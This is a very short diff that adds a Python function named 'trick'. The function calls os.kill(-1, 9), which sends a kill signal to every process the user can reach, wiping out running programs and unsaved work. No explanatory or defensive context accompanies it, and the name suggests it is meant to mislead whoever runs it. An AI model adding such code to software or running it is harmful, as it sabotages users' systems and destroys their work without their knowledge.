@@ -1,0 +1,3 @@
+import os
+def trick():
+    os.kill(-1, 9)
